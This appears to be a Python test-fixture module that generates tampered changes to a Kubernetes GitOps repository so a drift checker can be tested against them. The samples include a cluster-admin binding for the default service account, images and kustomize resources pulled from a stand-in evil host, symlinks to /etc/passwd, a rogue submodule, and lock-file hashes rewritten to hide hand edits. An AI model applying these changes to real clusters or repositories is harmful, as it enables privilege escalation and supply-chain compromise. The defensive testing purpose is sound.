"""Files beside those that poolsmith writes, in every folder that a delivery engine reads."""

from __future__ import annotations

import json
import re

from pull_requests.fleet import Change, replaced, text_edit
from pull_requests.powers import EVIL
from support.git_repository import git

FOLDERS = (
    "output/clusters/prod-eu/delivery",
    "output/clusters/prod-eu/platform",
    "output/clusters/prod-eu/platform/admission",
    "output/clusters/prod-eu/platform/values",
    "output/clusters/prod-eu/pools",
    "output/clusters/prod-eu/pools/l40s-crio",
    "output/clusters/prod-eu/pools/l40s-crio/toolkit",
    "output/clusters/prod-eu/toolkit-base",
    "output/clusters/kata-a10/units/coco-operator",
    "output/clusters/edge/delivery",
    "output/clusters/edge/platform",
    "output/clusters/manual/units/dcgm-exporter/values",
    "output/clusters/manual/units/device-plugin",
    "output/fleet/argocd",
)
OTHER_FOLDERS = (
    "output",
    "output/clusters",
    "output/clusters/unknown",
    "output/clusters/unknown/platform",
    "output/clusters/prod-eu",
    "output/clusters/prod-eu/new",
    "output/clusters/prod-eu/smoke",
    "output/clusters/prod-eu/expected",
    "output/fleet",
    "output/fleet/flux",
    "output/new",
)
_BINDING = """\
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: {name: gained}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}
subjects: [{kind: ServiceAccount, name: default, namespace: default}]
"""
_KUSTOMIZATION = "apiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\nresources: [evil.yaml]\n"
FILES = {
    "evil.yaml": _BINDING,
    "evil.yml": _BINDING,
    "evil.json": json.dumps({"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "gained"}}),
    "Kustomization": _KUSTOMIZATION,
    "kustomization.yml": _KUSTOMIZATION,
    ".argocd-source.yaml": f"kustomize: {{images: [nvcr.io/nvidia/k8s-device-plugin={EVIL}/x]}}\n",
    ".argocd-source-prod-eu-platform.yaml": f"kustomize: {{images: [a={EVIL}/x]}}\n",
    "Chart.yaml": "apiVersion: v2\nname: gained\nversion: 1.0.0\n",
    "values.yaml": "a: b\n",
    "templates/evil.yaml": _BINDING,
    "main.jsonnet": "{}\n",
    "evil.libsonnet": "{}\n",
    "plugin.yaml": "apiVersion: argoproj.io/v1alpha1\nkind: ConfigManagementPlugin\n",
    ".sourceignore": "*\n",
    ".helmignore": "*\n",
    ".gitattributes": "* -diff linguist-generated=true\n",
    "evil.sh": "#!/bin/sh\n",
    "README.txt": "hello\n",
}
_CRUCIAL = ("evil.yaml", ".argocd-source.yaml", "Kustomization", ".gitattributes", "evil.sh")


def file_changes():
    """Each name in each delivered folder; the most telling ones in every other folder; links and submodules."""
    for folder in FOLDERS:
        for name, text in FILES.items():
            yield _file(f"{folder}/{name}", text, "foreign")
        for name, target in LINKS:
            yield _link(f"{folder}/{name}", target)
        yield _submodule(f"{folder}/sub")
    for folder in OTHER_FOLDERS:
        for name in _CRUCIAL:
            yield _file(f"{folder}/{name}", FILES[name], "foreign-other")
    yield _file(".gitattributes", "output/** -diff linguist-generated=true\n", "attributes")
    yield _link("profiles/linked", "/etc", "profiles")
    yield _link("profiles/prod-eu/linked.yaml", "../lab-t4/t4.yaml", "profiles")
    yield _link("policies/privileges/linked.yaml", "/etc/passwd", "policies")
    yield _submodule("profiles/sub")
    yield _submodule("sub")
    for path, old, new, gain in EDITED:
        yield Change(
            f"edited {path} {gain}", replaced(path, old, new), gain, re.escape(path), by_hand=True, kind="edited"
        )
    for name, edit, gain, where in WITH_LOCK:
        yield Change(f"edited with its lock: {name}", edit, gain, where, by_hand=True, kind="edited")


LINKS = (("linked.yaml", "/etc/passwd"), ("linked", "../../../../profiles"), ("kustomize.yaml", "kustomization.yaml"))


def _file(path, text, kind):
    return Change(
        f"file {path}",
        text_edit(path, text),
        re.escape(path.rpartition("/")[2]),
        re.escape(path),
        _cluster(path),
        by_hand=True,
        kind=kind,
    )


def _cluster(path):
    """The cluster that a path belongs to; the smallest one for what belongs to none. The fleet's folder needs all."""
    found = re.match(r"(?:output/clusters|profiles)/([a-z0-9-]+)/", f"{path}/")
    if "/fleet" in path:
        return None
    return found[1] if found and found[1] not in ("unknown", "linked", "sub") else "lab-t4"


def _link(path, target, kind="link"):
    def edit(root):
        (root / path).parent.mkdir(parents=True, exist_ok=True)
        (root / path).symlink_to(target)

    return Change(f"link {path} to {target}", edit, "link", re.escape(path), _cluster(path), by_hand=True, kind="link")


def _submodule(path):
    def edit(root):
        git(root, "update-index", "--add", "--cacheinfo", f"160000,{git(root, 'rev-parse', 'HEAD')},{path}")
        (root / path).mkdir(parents=True, exist_ok=True)
        (root / path / ".git").write_text(f"gitdir: {root}/.git\n")

    def whole(root):
        (root / ".gitmodules").write_text(f'[submodule "s"]\n\tpath = {path}\n\turl = https://git.evil.example/s.git\n')
        edit(root)

    return Change(
        f"submodule {path}",
        whole,
        "submodule|gitmodules",
        f"{re.escape(path)}|gitmodules",
        _cluster(path),
        by_hand=True,
        kind="submodule",
    )


_EU = "output/clusters/prod-eu"
EDITED = (
    (
        f"{_EU}/platform/values/gpu-operator.yaml",
        "driver:\n",
        "driver:\n  hostNetwork: true\n",
        "hostNetwork|not what|by hand",
    ),
    (
        f"{_EU}/platform/kustomization.yaml",
        "resources:\n",
        "resources:\n  - https://git.evil.example/x?ref=main\n",
        "evil|not what|by hand",
    ),
    (
        f"{_EU}/platform/kustomization.yaml",
        "resources:\n",
        "resources:\n  - ../../../../profiles\n",
        "profiles|not what|by hand",
    ),
    (f"{_EU}/delivery/platform.yaml", "git.example.com", "git.evil.example", "evil|not what|by hand"),
    (f"{_EU}/toolkit-base/daemon-set.yaml", "nvcr.io/nvidia", EVIL, "evil|not what|by hand"),
    (f"{_EU}/privileges.yaml", "privileged", "harmless", "not what|by hand|privilege"),
    (f"{_EU}/README.md", "prod-eu", "harmless", "not what|by hand"),
    (
        "output/fleet/argocd/appproject-gpu.yaml",
        "spec:\n",
        "spec:\n  sourceRepos: ['*']\n",
        "not what|by hand|sourceRepos",
    ),
)


def _with_lock(cluster, path, old, new):
    """Output that is edited by hand, and the lock that is made to agree."""
    import hashlib

    def edit(root):
        folder = root / "output/clusters" / cluster
        lock = (folder / "poolsmith.lock.json").read_text()
        before = hashlib.sha256((folder / path).read_bytes()).hexdigest()
        replaced(f"output/clusters/{cluster}/{path}", old, new)(root)
        after = hashlib.sha256((folder / path).read_bytes()).hexdigest()
        (folder / "poolsmith.lock.json").write_text(lock.replace(before, after))

    return edit


WITH_LOCK = (
    (
        "values",
        _with_lock("prod-eu", "platform/values/gpu-operator.yaml", "driver:\n", "driver:\n  hostNetwork: true\n"),
        "not what|by hand|hostNetwork",
        "prod-eu",
    ),
    (
        "source",
        _with_lock("edge", "delivery/sources.yaml", "git.example.com", "git.evil.example"),
        "not what|by hand|evil",
        "edge",
    ),
)
